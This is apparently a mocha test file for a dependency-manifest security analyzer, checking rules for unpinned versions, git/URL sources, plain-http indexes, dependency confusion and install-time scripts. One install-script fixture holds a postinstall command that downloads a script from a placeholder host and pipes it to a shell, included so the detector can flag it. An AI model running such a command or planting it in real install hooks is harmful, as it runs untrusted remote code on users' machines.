import { strict as assert } from 'node:assert';
import { analyze } from '../../../server/src/analysis/analyze';
import type { ManifestKind } from '../../../server/src/model/model';
import { parseSettings } from '../../../server/src/model/settings';
import type { LockedVersions } from '../../../server/src/model/model';
import { slice } from '../../helpers/text';

function run(kind: ManifestKind, text: string, settings: Record<string, unknown> = {}, locked?: LockedVersions) {
  const { findings } = analyze({ kind, text, settings: parseSettings(settings), locked });
  return findings.map((f) => ({ rule: f.rule, severity: f.severity, at: slice(text, f.span), message: f.message, fixes: f.fixes, package: f.package }));
}

describe('unpinned-version', () => {
  it('flags npm ranges, tags and wildcards on the spec token and passes exact pins', () => {
    const text = JSON.stringify({ dependencies: { a: '^1.2.3', b: '~1', c: '>=2', d: '*', e: 'latest', f: '1.x', g: '1.2.3', h: '=1.2.3' } });
    const found = run('package.json', text).filter((f) => f.rule === 'unpinned-version');
    assert.deepEqual(found.map((f) => f.at), ['^1.2.3', '~1', '>=2', '*', 'latest', '1.x']);
    assert.ok(found.every((f) => f.severity === 'warning'));
    assert.match(found[0].message, /a is not pinned: `\^1\.2\.3` admits >=1\.2\.3 <2\.0\.0/);
  });

  it('leaves peer dependencies alone: they state compatibility, not what installs', () => {
    assert.equal(run('package.json', '{"peerDependencies": {"react": "^18"}}').length, 0);
  });

  it('flags requirements without an exact == pin, on the name when there is no spec', () => {
    const text = 'requests>=2.31\nnumpy\nflask==3.0.0\ndjango===4.2\nrich~=13.0\nattrs==23.*\n';
    const found = run('requirements', text).filter((f) => f.rule === 'unpinned-version');
    assert.deepEqual(found.map((f) => f.at), ['>=2.31', 'numpy', '~=13.0', '==23.*']);
  });

  it('flags floating and open NuGet versions and passes exact ones', () => {
    const text = `<Project><ItemGroup>
  <PackageReference Include="A" Version="13.*" />
  <PackageReference Include="B" Version="[1.0,)" />
  <PackageReference Include="C" Version="1.2.3" />
  <PackageReference Include="D" Version="[1.2.3]" />
  <PackageReference Include="E" />
</ItemGroup></Project>`;
    const found = run('msbuild', text).filter((f) => f.rule === 'unpinned-version');
    assert.deepEqual(found.map((f) => f.at), ['13.*', '[1.0,)']);
  });

  it('offers a pin fix from the lockfile, in the exact form of the ecosystem', () => {
    const locked: LockedVersions = { source: 'package-lock.json', versionOf: (d) => (d.name === 'express' ? '4.21.2' : undefined) };
    const text = '{"dependencies": {"express": "^4.18.2", "react": "^18"}}';
    const [express, react] = run('package.json', text, {}, locked);
    assert.equal(express.fixes?.[0].title, 'Pin express to 4.21.2 (from package-lock.json)');
    assert.equal(express.fixes?.[0].edits[0].newText, '4.21.2');
    assert.equal(slice(text, express.fixes?.[0].edits[0].span), '^4.18.2');
    assert.equal(react.fixes, undefined);

    const req = 'flask[async]>=3.0 ; python_version > "3.8"\nnumpy\n';
    const lockedPy: LockedVersions = { source: 'test', versionOf: () => '9.9.9' };
    const pins = run('requirements', req, {}, lockedPy).map((f) => f.fixes?.[0].edits[0]);
    const applied = pins.reduceRight((t, e) => t.slice(0, e!.span.start) + e!.newText + t.slice(e!.span.end), req);
    assert.equal(applied, 'flask[async]==9.9.9 ; python_version > "3.8"\nnumpy==9.9.9\n');
  });
});

describe('non-registry-source', () => {
  it('flags git, URL and path dependencies of every format', () => {
    const npm = run('package.json', JSON.stringify({ dependencies: { a: 'github:x/y', b: 'https://x.test/b.tgz', c: 'file:../c', d: 'workspace:*', e: '1.0.0' } }));
    assert.deepEqual(npm.filter((f) => f.rule === 'non-registry-source').map((f) => f.package), ['a', 'b', 'c']);
    const py = run('requirements', 'pkg @ https://x.test/pkg-1.0.tar.gz\ngit+https://github.com/x/y.git#egg=y\n-e ./local\n./wheels/z-1.0-py3-none-any.whl\n');
    assert.equal(py.filter((f) => f.rule === 'non-registry-source').length, 4);
  });

  it('says whether a git dependency is pinned to a commit', () => {
    const [f] = run('package.json', '{"dependencies": {"a": "git+https://github.com/x/a.git#0123456789abcdef0123456789abcdef01234567"}}').filter((x) => x.rule === 'non-registry-source');
    assert.match(f.message, /pinned to a commit/);
    const [g] = run('package.json', '{"dependencies": {"a": "github:x/a#main"}}').filter((x) => x.rule === 'non-registry-source');
    assert.match(g.message, /can move/);
  });

  it('reads a 7-39 hex-digit ref as an abbreviated commit, not a movable branch (npm and pip)', () => {
    const npm = run('package.json', '{"dependencies": {"jade": "pugjs/jade#29784fd", "b": "github:x/b#v1.2.3", "c": "github:x/c#deadbeef"}}').filter((x) => x.rule === 'non-registry-source');
    assert.deepEqual(npm.map((f) => /abbreviated commit id, which a commit pushed later could in principle share/.test(f.message)), [true, false, true]);
    assert.match(npm[1].message, /branch or tag that whoever controls the repository can move/);
    assert.doesNotMatch(npm[0].message, /can move/);
    const py = run('requirements', 'git+https://github.com/x/y.git@29784fd#egg=y\ngit+https://user@github.com/x/z.git@main#egg=z\ngit+https://github.com/x/w.git@0123456789abcdef0123456789abcdef01234567#egg=w\n').filter((x) => x.rule === 'non-registry-source');
    assert.match(py[0].message, /abbreviated commit id/);
    assert.match(py[1].message, /can move/);
    assert.match(py[2].message, /pinned to a commit, but/);
  });
});

describe('insecure-source', () => {
  it('flags http:// and git:// dependencies, indexes, restore sources and --trusted-host', () => {
    assert.deepEqual(run('package.json', '{"dependencies": {"a": "http://x.test/a.tgz", "b": "git://github.com/x/b.git"}}').filter((f) => f.rule === 'insecure-source').map((f) => f.package), ['a', 'b']);
    const req = '--index-url http://pypi.internal/simple\n--trusted-host pypi.internal\nfoo==1.0\n';
    const found = run('requirements', req).filter((f) => f.rule === 'insecure-source');
    assert.deepEqual(found.map((f) => f.at), ['http://pypi.internal/simple', 'pypi.internal']);
    assert.ok(found.every((f) => f.severity === 'error'));
    const proj = '<Project><PropertyGroup><RestoreSources>http://feed.local/v3/index.json</RestoreSources></PropertyGroup></Project>';
    assert.deepEqual(run('msbuild', proj).filter((f) => f.rule === 'insecure-source').map((f) => f.at), ['http://feed.local/v3/index.json']);
  });
});

describe('dependency-confusion', () => {
  it('flags --extra-index-url and a second restore source', () => {
    const req = '--extra-index-url https://private.test/simple\nfoo==1.0\n';
    assert.deepEqual(run('requirements', req).filter((f) => f.rule === 'dependency-confusion').map((f) => f.at), ['https://private.test/simple']);
    const one = '<Project><PropertyGroup><RestoreSources>https://a.test/index.json</RestoreSources></PropertyGroup></Project>';
    assert.equal(run('msbuild', one).filter((f) => f.rule === 'dependency-confusion').length, 0);
    const two = '<Project><PropertyGroup><RestoreSources>https://a.test/index.json;https://b.test/index.json</RestoreSources></PropertyGroup></Project>';
    assert.deepEqual(run('msbuild', two).filter((f) => f.rule === 'dependency-confusion').map((f) => f.at), ['https://b.test/index.json']);
  });
});

describe('install-script', () => {
  it('flags the manifest\'s own install-time scripts and quotes the command', () => {
    const text = JSON.stringify({ scripts: { preinstall: 'node check.js', postinstall: 'curl -s https://x.test/i.sh | sh', prepare: 'husky install', test: 'mocha', build: 'tsc' } });
    const found = run('package.json', text).filter((f) => f.rule === 'install-script');
    assert.deepEqual(found.map((f) => f.at), ['preinstall', 'postinstall', 'prepare']);
    assert.match(found[1].message, /`curl -s https:\/\/x\.test\/i\.sh \| sh` — it downloads a script and pipes it to a shell/);
    assert.equal(found[1].severity, 'error');
    assert.equal(found[0].severity, 'warning');
  });
});

describe('settings applied to findings', () => {
  const text = '{"dependencies": {"a": "^1", "b": "^2"}, "scripts": {"postinstall": "node x"}}';
  it('overrides severity per rule and turns rules off', () => {
    const found = run('package.json', text, { severity: { 'unpinned-version': 'error', 'install-script': 'off' } });
    assert.deepEqual(found.map((f) => [f.rule, f.severity]), [['unpinned-version', 'error'], ['unpinned-version', 'error']]);
  });
  it('drops allowlisted packages, for every rule or one rule', () => {
    assert.deepEqual(run('package.json', text, { allowlist: ['A'] }).map((f) => f.package).filter(Boolean), ['b']);
    assert.deepEqual(run('package.json', text, { allowlist: ['unpinned-version:b'] }).map((f) => f.package).filter(Boolean), ['a']);
    assert.deepEqual(run('package.json', text, { allowlist: ['typosquat:b'] }).map((f) => f.package).filter(Boolean), ['a', 'b']);
  });
  it('reports one information finding instead of analysing an oversized file', () => {
    const big = `{"dependencies": {${Array.from({ length: 100 }, (_, i) => `"p${i}": "^1.0.0"`).join(',')}}}`;
    const found = run('package.json', big, { maxFileSizeKB: 1 });
    assert.deepEqual(found.map((f) => [f.rule, f.severity]), [['manifest-too-large', 'information']]);
  });
  it('turns parse problems into parse-error findings', () => {
    const found = run('package.json', '{"dependencies": {"a": "^1",,}');
    assert.ok(found.some((f) => f.rule === 'parse-error' && f.severity === 'error'));
    assert.ok(found.some((f) => f.rule === 'unpinned-version'));
  });
});
